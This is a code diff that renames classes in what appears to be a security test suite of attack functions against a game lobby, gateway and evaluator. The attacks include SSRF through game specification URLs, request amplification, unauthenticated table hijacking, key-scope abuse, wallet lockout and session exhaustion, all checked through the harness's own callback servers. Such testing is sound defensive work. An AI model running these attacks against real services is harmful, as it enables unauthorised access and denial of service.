@@ -18,9 +18,9 @@ from casino.attack.attack_base import (
     refused,
     succeeded,
 )
-from casino.attack.attack_target import Target, Try
-from casino.attack.binding_calls import HEADERS, RPC_PATH, Depth, Json, Reply, read_a2a
-from casino.attack.callback_server import Canary, agent_card
+from casino.attack.attack_target import AttackTarget, Try
+from casino.attack.binding_calls import HEADERS, RPC_PATH, Depth, Json, TriedReply, read_a2a
+from casino.attack.callback_server import CallbackServer, agent_card
 from casino.errors import NoAnswer
 
 _FLEET_SKILL = "registerTable"
@@ -33,19 +33,19 @@ _FRESH_S = 2.2
 """Seconds after which a lobby's cached list of games has expired."""
 
 
-async def _announce(target: Target, request: Json) -> list[Try]:
+async def _announce(target: AttackTarget, request: Json) -> list[Try]:
     return await target.call_over_all(target.lobby, _FLEET_SKILL, request, target.tokens("table"))
 
 
 @attack("fleet", "C6", "27-H5", breaks=_SILENT)
-async def announce_table(target: Target) -> Outcome:
+async def announce_table(target: AttackTarget) -> Outcome:
     """Announce a table to the lobby without its key, to get the next room."""
     canary = await target.new_canary()
     return by_admission(await _announce(target, {"agentCardUrl": canary.card_url}), _SILENT)
 
 
 @attack("fleet", "C6", breaks=_SILENT)
-async def claim_moved_table(target: Target) -> Outcome:
+async def claim_moved_table(target: AttackTarget) -> Outcome:
     """Announce without its key that a room's table has moved to the attacker's address."""
     if not target.tables:
         return not_applicable("no room has a table that may be attacked")
@@ -71,7 +71,7 @@ async def claim_moved_table(target: Target) -> Outcome:
 
 
 @attack("fleet", "H11", breaks=_SILENT)
-async def offer_newer_game(target: Target) -> Outcome:
+async def offer_newer_game(target: AttackTarget) -> Outcome:
     """Replace a game's rules by announcing a table with a newer version."""
     canary = await target.new_canary()
     canary.card = _card_with_game(canary, "kuhn_poker", "/games/kuhn_poker/spec")
@@ -85,7 +85,7 @@ async def offer_newer_game(target: Target) -> Outcome:
 
 
 @attack("fleet", "H9", breaks=_SILENT)
-async def multiply_requests(target: Target) -> Outcome:
+async def multiply_requests(target: AttackTarget) -> Outcome:
     """Make the lobby send many requests to one address, announced under many names."""
     canary = await target.new_canary()
     host = canary.url.removeprefix("http://")
@@ -102,11 +102,11 @@ async def multiply_requests(target: Target) -> Outcome:
 
 
 @attack("outgoing", "C7", breaks=_SILENT)
-async def read_page_as_specification(target: Target) -> Outcome:
+async def read_page_as_specification(target: AttackTarget) -> Outcome:
     """Make the lobby fetch another server's page as a game's specification, and publish it."""
     canary, inside = await target.new_canary(), await target.new_canary()
     page = f"# {inside.word}".encode()
-    inside.pages["/internal"] = Canary.page(page)
+    inside.pages["/internal"] = CallbackServer.page(page)
     canary.card = _card_with_game(canary, "mallory_game", inside.url + "/internal")
     tries = await _announce(target, {"agentCardUrl": canary.card_url})
     await _games(target, tries)
@@ -126,7 +126,7 @@ async def read_page_as_specification(target: Target) -> Outcome:
     return by_admission(tries)
 
 
-def _card_with_game(canary: Canary, game_type: str, specification: str) -> dict[str, Any]:
+def _card_with_game(canary: CallbackServer, game_type: str, specification: str) -> dict[str, Any]:
     game = {
         "gameType": game_type,
         "name": "Mallory's",
@@ -138,10 +138,10 @@ def _card_with_game(canary: Canary, game_type: str, specification: str) -> dict[
         "schemaFormat": "json-schema",
         "specification": specification,
     }
-    return agent_card(canary.url, "Canary", ("configureTable",), {"games": [game]})
+    return agent_card(canary.url, "CallbackServer", ("configureTable",), {"games": [game]})
 
 
-async def _games(target: Target, tries: list[Try]) -> Json:
+async def _games(target: AttackTarget, tries: list[Try]) -> Json:
     """Return the lobby's list of games after an announcement has taken effect."""
     if any(try_.reply.was_let_in for try_ in tries):
         await asyncio.sleep(_FRESH_S)
@@ -166,7 +166,7 @@ def _bearer(key: str) -> dict[str, str]:
 
 
 @attack("commands", "27-M4")
-async def use_service_key(target: Target) -> Outcome:
+async def use_service_key(target: AttackTarget) -> Outcome:
     """Use the keys of services beyond their scopes: hidden cards, and the operator's rooms.
 
     The commands are such that even a lobby without scopes refuses them, unharmed.
@@ -201,7 +201,7 @@ async def use_service_key(target: Target) -> Outcome:
 
 
 @attack("commands", "27-H2", needs="gateway")
-async def take_invited_seat(target: Target) -> Outcome:
+async def take_invited_seat(target: AttackTarget) -> Outcome:
     """Take a seat at the gateway, without a key, in rooms that are open to invited players only."""
     gateway = target.services["gateway"]
     invited = [room for room in target.open_rooms if room.is_invited]
@@ -219,7 +219,7 @@ async def take_invited_seat(target: Target) -> Outcome:
 
 
 @attack("seats", "27-M1", needs="gateway")
-async def bind_foreign_wallet(target: Target) -> Outcome:
+async def bind_foreign_wallet(target: AttackTarget) -> Outcome:
     """Restrict a wallet as a guest, without its signature, so that its owner cannot play."""
     gateway = target.services["gateway"]
     guest = await target.rest("POST", "/api/auth/guest", {}, at=gateway)
@@ -240,7 +240,7 @@ async def bind_foreign_wallet(target: Target) -> Outcome:
 
 
 @attack("resources", "27-H3", needs="evaluator")
-async def take_all_tables(target: Target) -> Outcome:
+async def take_all_tables(target: AttackTarget) -> Outcome:
     """Begin many sessions with one anonymous key, so that the operator can open no room."""
     if not target.operator_key:
         return not_applicable(_NO_KEY)
@@ -273,7 +273,7 @@ async def take_all_tables(target: Target) -> Outcome:
 
 
 @attack("outgoing", "27-H4", needs="evaluator")
-async def pass_for_loopback(target: Target) -> Outcome:
+async def pass_for_loopback(target: AttackTarget) -> Outcome:
     """Have the evaluator assess agents, as a proxy's client without a key, and read its tasks."""
     evaluator, canary = target.services["evaluator"], await target.new_canary()
     participants = dict.fromkeys(("alice", "bob"), canary.url)
@@ -293,7 +293,7 @@ async def pass_for_loopback(target: Target) -> Outcome:
             content=orjson.dumps(call),
         )
         answers.append(answer.body)
-        reply = Reply(Depth.ANSWERED) if b'"tasks":[{' in answer.body else read_a2a(answer)
+        reply = TriedReply(Depth.ANSWERED) if b'"tasks":[{' in answer.body else read_a2a(answer)
         tries.append(Try(evaluator, method, "no token", reply))
     if canary.visits:
         return succeeded(f"the evaluator sent {canary.visited()} requests without a key")
@@ -303,7 +303,7 @@ async def pass_for_loopback(target: Target) -> Outcome:
 
 
 @attack("input", "27-M2", "27-M5", breaks="the published match, which cannot be removed")
-async def publish_hostile_hand(target: Target) -> Outcome:
+async def publish_hostile_hand(target: AttackTarget) -> Outcome:
     """Publish a match, as the operator, whose hand histories cannot be read."""
     if not target.operator_key:
         return not_applicable(_NO_KEY)
